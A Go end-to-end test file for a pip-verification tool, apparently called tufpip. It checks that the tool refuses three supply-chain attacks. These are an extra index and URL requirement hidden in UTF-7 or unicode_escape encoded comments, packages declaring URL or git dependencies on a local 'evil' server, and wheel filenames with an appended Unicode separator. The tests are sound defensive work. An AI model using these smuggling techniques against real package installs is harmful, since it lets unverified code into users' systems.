package e2e

import (
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"unicode"

	"github.com/tufpip/tufpip/internal/pyfix"
	"github.com/tufpip/tufpip/internal/tuftest"
)

// Attack tests of issue 10, items 5-7, with real pip (23.2 and 24.2): an attacker who wrote
// a requirements file, or a vouched-for file's metadata, or an argument, tries to make pip
// install something tufpip did not verify.

// evilServer serves an evil wheel (and a simple index of it) on 127.0.0.1 and counts every
// request it gets.
type evilServer struct {
	URL      string
	requests atomic.Int64
	wheel    string // filename
}

func newEvilServer(t *testing.T) *evilServer {
	t.Helper()
	fn, data := pyfix.Wheel(t, pyfix.WheelSpec{Name: "evil", Version: "1.0"})
	e := &evilServer{wheel: fn}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.requests.Add(1)
		t.Logf("evil server: %s %s (Host %s)", r.Method, r.URL, r.Host)
		switch {
		case strings.HasSuffix(r.URL.Path, ".whl"):
			w.Write(data)
		case strings.HasPrefix(r.URL.Path, "/simple/"):
			w.Header().Set("Content-Type", "text/html")
			w.Write([]byte(`<a href="/` + fn + `">` + fn + `</a>`))
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	e.URL = srv.URL
	return e
}

func (e *evilServer) assertUntouched(t *testing.T) {
	t.Helper()
	if n := e.requests.Load(); n != 0 {
		t.Errorf("the evil server got %d requests", n)
	}
}

// Item 5: a requirements file whose declared encoding (UTF-7, unicode_escape) hides, in what
// reads as a comment, an extra index and a direct URL requirement. Before the fix tufpip
// read the bytes as UTF-8, saw one requirement, and pip downloaded evil (exit 0).
func TestAttackRequirementsEncoding(t *testing.T) {
	t.Parallel()
	needTufpip(t)
	interpreters(t, func(t *testing.T, py pyfix.Interpreter) {
		r := newSeededPipRepo(t)
		evil := newEvilServer(t)
		hidden := "\n--extra-index-url " + evil.URL + "/simple/\nevil @ " + evil.URL + "/" + evil.wheel + "\n"
		dir := t.TempDir()
		for name, content := range map[string]string{
			"utf-7.txt":          "# -*- coding: utf-7 -*-\nlib==1.0 # " + utf7(hidden) + "\n",
			"unicode_escape.txt": "# coding: unicode_escape\nlib==1.0 # " + strings.ReplaceAll(hidden, "\n", `\x0a`) + "\n",
		} {
			req := filepath.Join(dir, name)
			writeFile(t, req, content)
			wheels := filepath.Join(dir, "wheels-"+name)
			_, stderr, code := r.tufpip("download", "--python", py.Path, "-r", req, "-d", wheels)
			if code != 2 || !strings.Contains(stderr, "tufpip: error: "+req+":1: declares the encoding") {
				t.Errorf("%s: exit %d, want 2 naming %s:1 and the encoding\n%s", name, code, req, stderr)
			}
			if _, err := os.Stat(wheels); !os.IsNotExist(err) {
				t.Errorf("%s: pip ran: %v", name, listDir(t, wheels))
			}
			_, stderr, code = r.tufpip("verify", req)
			if code != 1 || !strings.Contains(stderr, req+":1: declares the encoding") {
				t.Errorf("verify %s: exit %d, want 1 naming %s:1\n%s", name, code, req, stderr)
			}
		}
		evil.assertUntouched(t)
	})
}

// utf7 encodes s as Python's UTF-7 codec would decode it: every character as a base64
// block of UTF-16, so "\n" and "@" are hidden.
func utf7(s string) string {
	const b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var units []byte
	for _, c := range s {
		units = append(units, byte(c>>8), byte(c))
	}
	var out strings.Builder
	out.WriteByte('+')
	var acc, bits uint
	for _, b := range units {
		acc = acc<<8 | uint(b)
		bits += 8
		for bits >= 6 {
			bits -= 6
			out.WriteByte(b64[(acc>>bits)&63])
		}
	}
	if bits > 0 {
		out.WriteByte(b64[(acc<<(6-bits))&63])
	}
	out.WriteByte('-')
	return out.String()
}

// Item 6: a vouched-for distribution declaring a dependency by URL. A wheel's metadata is
// read by the index, which refuses the wheel and names it; an sdist's metadata exists only
// once pip has built it, so there pip finds every other host, and version control, out of
// reach. Before the fix pip fetched evil (exit 0). The evil server gets no request.
func TestAttackDirectURLDependency(t *testing.T) {
	t.Parallel()
	needTufpip(t)
	interpreters(t, func(t *testing.T, py pyfix.Interpreter) {
		r := newPipRepo(t)
		r.seed()
		evil := newEvilServer(t)
		dep := "evil @ " + evil.URL + "/" + evil.wheel
		app, _ := r.wheel("bad-app", "1.0", dep)
		r.sign(tuftest.Stable, "bad-app", app)
		sfn, sdata := pyfix.Sdist(t, pyfix.SdistSpec{Name: "bad-src", Version: "1.0", RequiresDist: []string{dep}})
		vfn, vdata := pyfix.Sdist(t, pyfix.SdistSpec{Name: "bad-vcs", Version: "1.0",
			RequiresDist: []string{"evil @ git+" + evil.URL + "/evil.git"}})
		r.files[sfn], r.files[vfn] = sdata, vdata
		r.sign(tuftest.Stable, "bad-src", sfn)
		r.sign(tuftest.Stable, "bad-vcs", vfn)
		r.publish()

		for _, tc := range []struct{ cmd, project, want string }{
			{"install", "bad-app", "tufpip: error: " + app + ": declares the dependency \"" + dep + "\", which pip would fetch from its URL without verification"},
			{"download", "bad-app", "tufpip: error: " + app + ": declares the dependency"},
			{"install", "bad-src", "tufpip: error: pip tried to reach " + evil.URL + "/" + evil.wheel + " outside tufpip's verifying index; refused"},
			{"install", "bad-vcs", "tufpip: error: pip tried to reach git "},
		} {
			venv := pyfix.Venv(t, py.Path)
			args := []string{tc.cmd, "--python", pyfix.VenvPython(venv), tc.project}
			if tc.cmd == "download" {
				args = append(args, "-d", filepath.Join(t.TempDir(), "dl"))
			}
			_, stderr, code := r.tufpip(args...)
			if code != 3 || !strings.Contains(stderr, tc.want) {
				t.Errorf("%s %s: exit %d, want 3 and %q\n%s", tc.cmd, tc.project, code, tc.want, stderr)
			}
			if got := installed(t, venv, "bad_app", "bad_src", "bad_vcs", "evil"); len(got) != 0 {
				t.Errorf("%s %s: installed %v", tc.cmd, tc.project, got)
			}
		}
		evil.assertUntouched(t)
	})
}

// Item 7: pip strips a requirement with Python's str.strip(), which removes more than Go's
// strings.TrimSpace (U+001C..U+001F). A local wheel named with one of them appended passed
// the guard as a project name, and pip installed the file (exit 0). The set is Python's own.
func TestAttackWhitespaceLocalWheel(t *testing.T) {
	t.Parallel()
	needTufpip(t)
	interpreters(t, func(t *testing.T, py pyfix.Interpreter) {
		r := newSeededPipRepo(t)
		out, err := exec.Command(py.Path, "-c",
			"import sys; print(' '.join(str(c) for c in range(sys.maxunicode+1) if chr(c).isspace()))").Output()
		if err != nil {
			t.Fatal(err)
		}
		var extra []rune // what Python strips and Go's TrimSpace keeps
		for _, f := range strings.Fields(string(out)) {
			var c rune
			for _, d := range f {
				c = c*10 + d - '0'
			}
			if !unicode.IsSpace(c) {
				extra = append(extra, c)
			}
		}
		if len(extra) == 0 {
			t.Fatal("Python strips nothing Go keeps: the test would prove nothing")
		}
		dir := t.TempDir()
		fn, data := pyfix.Wheel(t, pyfix.WheelSpec{Name: "evil", Version: "1.0"})
		writeFile(t, filepath.Join(dir, fn), string(data))
		for _, c := range extra {
			venv := pyfix.Venv(t, py.Path)
			arg := fn + string(c)
			_, stderr, code := runTufpipIn(t, dir, r.env(), "install", "--python", pyfix.VenvPython(venv), arg)
			if code != 2 || !strings.Contains(stderr, "a local path is installed without verification") {
				t.Errorf("%q: exit %d, want 2\n%s", arg, code, stderr)
			}
			if got := installed(t, venv, "evil"); len(got) != 0 {
				t.Errorf("%q: installed %v", arg, got)
			}
		}
	})
}
